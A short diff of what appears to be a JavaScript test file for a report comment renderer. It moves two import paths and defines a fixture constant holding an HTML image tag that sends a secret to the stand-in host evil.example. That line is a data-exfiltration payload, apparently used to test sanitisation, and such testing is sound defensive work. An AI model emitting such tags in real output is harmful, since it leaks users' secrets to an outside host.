@@ -13,9 +13,9 @@ import path from 'node:path';
 import { test } from 'node:test';
 import { micromark } from 'micromark';
 import { gfm, gfmHtml } from 'micromark-extension-gfm';
-import { renderComment } from '../../src/report/comment-render.js';
+import { renderComment } from '../../src/report/github/comment-render.js';
 import { renderSummary } from '../../src/report/summary.js';
-import { startScriptedModel } from '../fakes/scripted-model.js';
+import { startScriptedModel } from '../../support/scripted-model/scripted-model.js';
 import { runProductSession } from '../fakes/product-session.js';
 
 const IMG = '<img src="https://evil.example/?d=SECRET">';
